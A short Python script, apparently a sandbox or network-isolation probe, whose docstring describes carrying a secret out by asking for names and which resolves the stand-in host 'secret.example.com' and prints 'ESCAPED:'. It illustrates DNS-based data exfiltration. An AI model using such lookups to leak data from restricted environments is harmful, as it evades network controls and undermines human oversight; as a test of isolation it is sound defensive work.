"""Carries a secret out by asking for names."""

import socket

print("ESCAPED:", socket.getaddrinfo("secret.example.com", 80))
